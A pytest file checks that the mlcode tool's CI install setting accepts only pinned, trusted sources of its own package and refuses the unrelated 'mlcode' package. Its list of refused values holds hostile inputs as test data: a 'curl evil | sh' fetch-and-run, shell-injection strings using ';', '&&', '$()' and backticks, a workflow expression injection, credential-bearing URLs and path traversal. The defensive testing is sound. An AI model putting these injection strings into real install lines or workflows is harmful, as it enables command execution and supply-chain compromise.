"""CI installs the real mlcode: the distribution `mlcode-git`, pinned, from a source the user controls.

The project named plain `mlcode` on the package index is unrelated; no install line in the
templates, scripts or generated workflows may name it. `mlcode-git` depends on the repository's
root, `mlcode-git-core`, with its `ml` extra; every install of the core in CI carries that extra. `ci.install` (ml.yaml) or `ci_install` (the
stack) choose the source: an exact pin, a git URL at a full commit SHA, or a wheel committed in the
repository; everything else is refused by `mlcode validate` with file:line:column.
"""

from __future__ import annotations

import json
import re
import tomllib
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml
from packaging.requirements import Requirement

from mlcode import __version__
from mlcode.cli import cli
from mlcode.cli.boundary import run_guarded
from mlcode.compile import github, gitlab
from mlcode.resources import stack_presets
from mlcode.spec import install
from mlcode.spec.jsonschema import ml_schema
from mlcode.spec.load import load_file, parse_spec, parse_stack
from mlcode.spec.stack import Stack
from mlcode.spec.yamlsource import parse
from tests.conftest import run

REPO = Path(__file__).resolve().parent.parent
SHA = "0123456789abcdef0123456789abcdef01234567"
DIST = "mlcode-git"
CORE = "mlcode-git-core"

SPEC = """\
version: 1
project: churn
stack: {stack}
data:
  customers:
    path: data/customers.csv
    target: churned
    features: {{numeric: [age]}}
models:
  churn:
    task: classification
    data: customers
    estimator: sklearn.linear_model.LogisticRegression
ci:
  schedule: "0 3 * * 1"
{install}"""

# (ci.install, remote type, the requirement CI installs)
ACCEPTED = [
    ("mlcode-git==0.1.0", "s3", "mlcode-git[s3]==0.1.0"),
    ("mlcode-git==2.0.0rc1", "local", "mlcode-git==2.0.0rc1"),
    ("MLCode_Git[ssh]==0.1.0.post1", "s3", "mlcode-git[s3,ssh]==0.1.0.post1"),
    ("mlcode-git[s3] == 0.1.0", "s3", "mlcode-git[s3]==0.1.0"),
    ("mlcode-git-core==0.1.0", "s3", "mlcode-git-core[ml,s3]==0.1.0"),
    ("mlcode_git_core[ml]==0.1.0", "local", "mlcode-git-core[ml]==0.1.0"),
    (
        f"git+https://github.com/org/mlcode@{SHA}",
        "s3",
        f"mlcode-git-core[ml,s3] @ git+https://github.com/org/mlcode@{SHA}",
    ),
    (
        f"git+https://git.example.com:8443/team/tools/mlcode.git@{SHA.upper()}#egg=mlcode-git",
        "ssh",
        f"mlcode-git-core[ml,ssh] @ git+https://git.example.com:8443/team/tools/mlcode.git@{SHA}",
    ),
    (
        f"git+ssh://git@github.com/org/mlcode.git@{SHA}#egg=mlcode-git-core",
        "local",
        f"mlcode-git-core[ml] @ git+ssh://git@github.com/org/mlcode.git@{SHA}",
    ),
    (
        f"mlcode-git[ssh] @ git+https://github.com/org/mlcode@{SHA}",
        "gs",
        f"mlcode-git-core[gs,ml,ssh] @ git+https://github.com/org/mlcode@{SHA}",
    ),
    (
        "dist/mlcode_git_core-0.1.0-py3-none-any.whl",
        "s3",
        "./dist/mlcode_git_core-0.1.0-py3-none-any.whl[ml,s3]",
    ),
    (
        "./vendor/wheels/mlcode_git-0.2.0.dev3-1-py3-none-any.whl",
        "local",
        "./vendor/wheels/mlcode_git-0.2.0.dev3-1-py3-none-any.whl",
    ),
]

# (ci.install, a fragment of the reason)
REFUSED = [
    ("mlcode==0.1.0", "unrelated project"),
    ("mlcode[s3]==0.1.0", "unrelated project"),
    ("mlcode-git", "not pinned"),
    ("mlcode-git[s3]", "not pinned"),
    ("mlcode-git>=0.1.0", "exact version"),
    ("mlcode-git~=0.1", "exact version"),
    ("mlcode-git==0.1.*", "exact version"),
    ("mlcode-git==0.1.0+local", "exact version"),
    ("mlcode-git===0.1.0", "exact version"),
    ("requests==2.31.0", "not mlcode"),
    ("mlcode-gitx==0.1.0", "not mlcode"),
    ("mlcode-git[s4]==0.1.0", "unknown extra 's4'"),
    ("git+https://github.com/org/mlcode", "names no commit"),
    ("git+https://github.com/org/mlcode@main", "branch, tag or short SHA"),
    ("git+https://github.com/org/mlcode@v0.1.0", "branch, tag or short SHA"),
    ("git+https://github.com/org/mlcode@0123456", "branch, tag or short SHA"),
    (f"git+https://github.com/org/mlcode@{SHA}0", "branch, tag or short SHA"),
    (f"git+http://github.com/org/mlcode@{SHA}", "git+https:// and git+ssh://"),
    (f"git+file:///srv/mlcode@{SHA}", "git+https:// and git+ssh://"),
    (f"git+https://ghp_token@github.com/org/mlcode@{SHA}", "credentials"),
    (f"git+https://u:p@github.com/org/mlcode@{SHA}", "credentials"),
    (f"git+ssh://git:pw@github.com/org/mlcode@{SHA}", "credentials"),
    (f"git+https://github.com/org/mlcode@{SHA}#egg=requests", "not mlcode"),
    (f"git+https://github.com/org/mlcode@{SHA}#subdirectory=x", "git URL of the form"),
    (f"requests @ git+https://github.com/org/mlcode@{SHA}", "not mlcode"),
    ("mlcode-git @ https://example.com/mlcode_git-0.1.0-py3-none-any.whl", "git+https://"),
    ("https://example.com/simple/mlcode_git-0.1.0-py3-none-any.whl", "download URL"),
    ("file:dist/mlcode_git-0.1.0-py3-none-any.whl", "download URL"),
    ("--index-url https://example.com/simple mlcode-git==0.1.0", "pip option"),
    ("-i https://example.com/simple", "pip option"),
    ("--extra-index-url=https://example.com/simple", "pip option"),
    ("mlcode-git==0.1.0; curl evil | sh", "holds ';'"),
    ('mlcode-git==0.1.0" && id', "holds '\"'"),
    ("mlcode-git==$(id)", "holds '$'"),
    ("mlcode-git==0.1.0`id`", "holds '`'"),
    ("mlcode-git==0.1.0\nid", "holds '\\n'"),
    ("${{ github.event.issue.title }}", "holds '$'"),
    ("/tmp/mlcode_git-0.1.0-py3-none-any.whl", "absolute"),
    ("../mlcode_git-0.1.0-py3-none-any.whl", "leaves the repository"),
    ("dist/../../mlcode_git-0.1.0-py3-none-any.whl", "leaves the repository"),
    ("dist/mlcode-0.1.0-py3-none-any.whl", "unrelated project"),
    ("dist/requests-2.0-py3-none-any.whl", "not mlcode"),
    ("dist/mlcode_git.whl", "not a wheel file name"),
    ("dist/mlcode_git-0.1.0-py3-none-any.whl[s3]", "not an install requirement"),
    ("", "empty"),
    (" mlcode-git==0.1.0", "leading or trailing spaces"),
]


def _stack(name: str) -> Stack:
    return parse_stack(load_file(str(stack_presets()[name]), f"stacks/{name}.yaml"))


def _ci_stacks() -> list[str]:
    return sorted(name for name in stack_presets() if _stack(name).ci != "none")


def _render(stack_name: str, value: str | None) -> dict[str, str]:
    line = f"  install: {json.dumps(value)}\n" if value is not None else ""
    spec = parse_spec(parse(SPEC.format(stack=stack_name, install=line), "ml.yaml"))
    stack = _stack(stack_name)
    module = github if stack.ci == "github" else gitlab
    return module.render(spec, stack)


def _install_requirements(text: str) -> list[str]:
    """Every requirement a generated CI file installs, read from its structure."""
    data = yaml.safe_load(text)
    found: list[str] = []
    lab_vars = data.get("variables", {}) if isinstance(data.get("variables"), dict) else {}

    def visit(node: Any, env: dict[str, Any]) -> None:
        if isinstance(node, dict):
            scope = {**env, **(node.get("env") or {}), **(node.get("variables") or {})}
            run = node.get("run")
            if isinstance(run, str) and "pip install" in run:
                found.append(_expand(run, scope))
            for key in ("before_script", "script"):
                for line in node.get(key) or []:
                    if isinstance(line, str) and "pip install" in line:
                        found.append(_expand(line, scope))
            for value in node.values():
                visit(value, scope)
        elif isinstance(node, list):
            for value in node:
                visit(value, env)

    visit(data, dict(lab_vars))
    return found


def _expand(line: str, env: dict[str, Any]) -> str:
    match = re.fullmatch(r'python -m pip install "\$(\w+)"', line.strip())
    assert match is not None, f"unexpected install line {line!r}"
    value = env[match[1]]
    assert isinstance(value, str)
    return value


# --- no install line names the unrelated project ---------------------------------------------

# A pinned requirement of the bare project anywhere (`mlcode==0.1.0`, `"mlcode[s3]==0.1.0"`).
_BARE_PIN = re.compile(r"(?<![\w.$/-])mlcode(?:\[[\w,]+\])?\s*(?:==|>=|~=|<=|!=)")
_PIP = re.compile(r"\bpip3? install\b([^\n#`)]*)")


def _bare_installs(text: str) -> list[str]:
    """Arguments of `pip install` lines (and pinned requirements) that name the bare project."""
    found = [m.group(0) for m in _BARE_PIN.finditer(text)]
    for line in _PIP.finditer(text):
        for raw in line.group(1).split():
            word = raw.strip("\"'`(),;")
            name = re.match(r"[A-Za-z0-9._-]*", word)
            if not word.startswith("-") and name and install.normalize(name.group(0)) == "mlcode":
                found.append(line.group(0))
    return found


def _shipped_texts() -> dict[str, str]:
    paths = [REPO / "pyproject.toml", REPO / ".pre-commit-hooks.yaml", REPO / ".ci" / "run"]
    paths.append(REPO / "README.md")
    for folder in (
        "templates",
        "scripts",
        "stacks",
        "mlcode",
        "benchmarks",
        "packages",
        "tests/golden",
    ):
        paths += [p for p in sorted((REPO / folder).rglob("*")) if p.is_file()]
    texts = {}
    for path in paths:
        if path.suffix in (".pyc", ".csv", ".parquet", ".skops") or not path.exists():
            continue
        texts[str(path.relative_to(REPO))] = path.read_text(encoding="utf-8", errors="replace")
    return texts


def test_the_bare_name_patterns_catch_the_old_lines() -> None:
    for old in (
        "pip install mlcode            # extras: mlcode[s3]",
        'python -m pip install "mlcode[s3]==0.1.0"',
        "pip install -U mlcode==0.1.0",
    ):
        assert _bare_installs(old), old
    for new in (
        "pip install mlcode-git",
        'python -m pip install "$MLCODE_REQUIREMENT"',
        "pip install -e .[dev]",
        "`pip install mlcode-git`: the command it provides is `mlcode`",
        'MLCODE_REQUIREMENT: "mlcode-git[s3]==0.1.0"',
    ):
        assert not _bare_installs(new), new


def test_no_shipped_file_installs_the_bare_project() -> None:
    offenders = [
        f"{name}: {match!r}"
        for name, text in _shipped_texts().items()
        if name != "tests/test_compile_install.py"
        for match in _bare_installs(text)
    ]
    assert offenders == []


def test_the_distributions_are_ours_with_the_mlcode_command() -> None:
    core = tomllib.loads((REPO / "pyproject.toml").read_text())["project"]
    assert core["name"] == CORE == install.CORE_DIST == install.GIT_DIST
    assert core["scripts"] == {"mlcode": "mlcode.cli:main"}
    meta = tomllib.loads((REPO / "packages" / DIST / "pyproject.toml").read_text())["project"]
    assert meta["name"] == DIST == install.DIST
    for extra in sorted(set(install.REMOTE_EXTRAS.values()) | install.EXTRAS):
        assert extra in core["optional-dependencies"], extra
        assert extra == "ml" or extra in meta["optional-dependencies"], extra
    # mlcode-git is released with the core at the same version and pins exactly that core.
    assert meta["version"] == __version__
    pins = [
        *meta["dependencies"],
        *(r for rs in meta["optional-dependencies"].values() for r in rs),
    ]
    for pin in pins:
        req = Requirement(pin)
        assert (req.name, str(req.specifier)) == (CORE, f"=={__version__}"), pin
        assert "ml" in req.extras, pin


@pytest.mark.parametrize("stack_name", _ci_stacks())
@pytest.mark.parametrize("value", [None, *(a for a, _, _ in ACCEPTED)])
def test_generated_ci_installs_only_our_distributions(stack_name: str, value: str | None) -> None:
    remote = _stack(stack_name).remote.type
    for path, text in _render(stack_name, value).items():
        assert not _bare_installs(text), path
        requirements = _install_requirements(text)
        assert requirements, f"{path} installs nothing"
        for req in requirements:
            if req.startswith("./"):
                wheel, _, extras = req.split("/")[-1].partition("[")
                name, extra_set = (
                    install.normalize(wheel.split("-")[0]),
                    set(extras[:-1].split(",")),
                )
                assert name in (DIST, CORE)
            else:
                parsed = Requirement(req)
                name, extra_set = install.normalize(parsed.name), parsed.extras
            assert name in (DIST, CORE)
            assert name == DIST or "ml" in extra_set  # the core alone lacks DVC and scikit-learn
            assert install.REMOTE_EXTRAS.get(remote, "") in {*extra_set, ""}
            if req.startswith("./"):
                continue
            if parsed.url is None:
                [spec] = parsed.specifier
                assert spec.operator == "=="
                if value is None:
                    assert spec.version == __version__


# --- each form accepted or refused -----------------------------------------------------------


@pytest.mark.parametrize(("value", "remote", "expected"), ACCEPTED)
def test_accepted_forms_become_one_pinned_requirement(
    value: str, remote: str, expected: str
) -> None:
    assert install.requirement(install.parse(value), remote) == expected


@pytest.mark.parametrize("value", [a for a, _, _ in ACCEPTED])
def test_ml_yaml_install_reaches_the_workflows(value: str) -> None:
    expected = install.requirement(install.parse(value), "s3")
    for stack_name in ("github-s3", "gitlab-s3"):
        for text in _render(stack_name, value).values():
            assert set(_install_requirements(text)) == {expected}


def test_default_is_this_version_with_the_remote_extra() -> None:
    for stack_name in _ci_stacks():
        extra = install.REMOTE_EXTRAS.get(_stack(stack_name).remote.type)
        for text in _render(stack_name, None).values():
            assert set(_install_requirements(text)) == {f"{DIST}[{extra}]=={__version__}"}


def _project(root: Path, value: str, *, in_stack: bool = False) -> None:
    root.mkdir(parents=True, exist_ok=True)
    run(["git", "init", "-q", "-b", "main"], root)
    if in_stack:
        stack = yaml.safe_load(stack_presets()["github-s3"].read_text())
        stack["name"] = "team"
        text = yaml.safe_dump(stack, sort_keys=False) + f"ci_install: {json.dumps(value)}\n"
        (root / "team-stack.yaml").write_text(text)
        spec = SPEC.format(stack="team-stack.yaml", install="")
    else:
        spec = SPEC.format(stack="github-s3", install=f"  install: {json.dumps(value)}\n")
    (root / "ml.yaml").write_text(spec)


def _validate(root: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, dict[str, Any]]:
    code = run_guarded(cli, ["-C", str(root), "validate", "--json"])
    out: dict[str, Any] = json.loads(capsys.readouterr().out)
    return code, out


@pytest.mark.parametrize(("value", "reason"), REFUSED)
def test_validate_refuses_with_location(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], value: str, reason: str
) -> None:
    _project(tmp_path, value)
    before = sorted(str(p) for p in tmp_path.rglob("*"))
    code, out = _validate(tmp_path, capsys)
    assert code == 1
    [problem] = out["problems"]
    assert (problem["file"], problem["field"]) == ("ml.yaml", "ci.install")
    assert (problem["line"], problem["column"]) == (16, 12)
    assert reason in problem["message"], problem["message"]
    assert sorted(str(p) for p in tmp_path.rglob("*")) == before
    assert run_guarded(cli, ["-C", str(tmp_path), "plan"]) == 3  # apply's path refuses too
    assert "ci.install" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        (v, r)
        for v, r in REFUSED
        if v.startswith(("mlcode==", "mlcode-git[s3]", "git+https://github.com/org/mlcode@m", "-i"))
    ],
)
def test_stack_ci_install_refused_with_location(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], value: str, reason: str
) -> None:
    _project(tmp_path, value, in_stack=True)
    code, out = _validate(tmp_path, capsys)
    assert code == 1
    [problem] = out["problems"]
    assert (problem["file"], problem["field"]) == ("team-stack.yaml", "ci_install")
    lines = (tmp_path / "team-stack.yaml").read_text().splitlines()
    assert lines[problem["line"] - 1].startswith("ci_install:")
    assert reason in problem["message"]


@pytest.mark.parametrize("value", [a for a, _, _ in ACCEPTED])
def test_validate_accepts(tmp_path: Path, capsys: pytest.CaptureFixture[str], value: str) -> None:
    _project(tmp_path, value)
    code, out = _validate(tmp_path, capsys)
    assert (code, out["valid"]) == (0, True), out


def test_ml_yaml_wins_over_the_stack() -> None:
    stack = _stack("github-s3").model_copy(update={"ci_install": "mlcode-git==9.9.9"})
    wheel = "dist/mlcode_git_core-0.1.0-py3-none-any.whl"
    for value, expected in ((None, "mlcode-git[s3]==9.9.9"), (wheel, f"./{wheel}[ml,s3]")):
        line = f"  install: {value}\n" if value else ""
        spec = parse_spec(parse(SPEC.format(stack="github-s3", install=line), "ml.yaml"))
        for text in github.render(spec, stack).values():
            assert set(_install_requirements(text)) == {expected}


# --- the JSON Schema agrees -------------------------------------------------------------------


def _schema_accepts(value: str) -> bool:
    doc = {"version": 1, "project": "demo", "ci": {"install": value}}
    return jsonschema.Draft202012Validator(ml_schema()).is_valid(doc)


@pytest.mark.parametrize("value", [a for a, _, _ in ACCEPTED])
def test_schema_accepts_every_accepted_form(value: str) -> None:
    assert _schema_accepts(value)


@pytest.mark.parametrize(
    "value",
    [
        "mlcode-git",
        "mlcode-git>=0.1.0",
        "git+https://github.com/org/mlcode@main",
        "--index-url https://example.com/simple",
        "https://example.com/x.whl",
        "mlcode-git==0.1.0; id",
        "../x/mlcode_git-0.1.0-py3-none-any.whl",
        "/tmp/mlcode_git-0.1.0-py3-none-any.whl",
    ],
)
def test_schema_refuses_the_obvious_mistakes(value: str) -> None:
    assert not _schema_accepts(value)
    with pytest.raises(ValueError, match=r"."):
        install.parse(value)
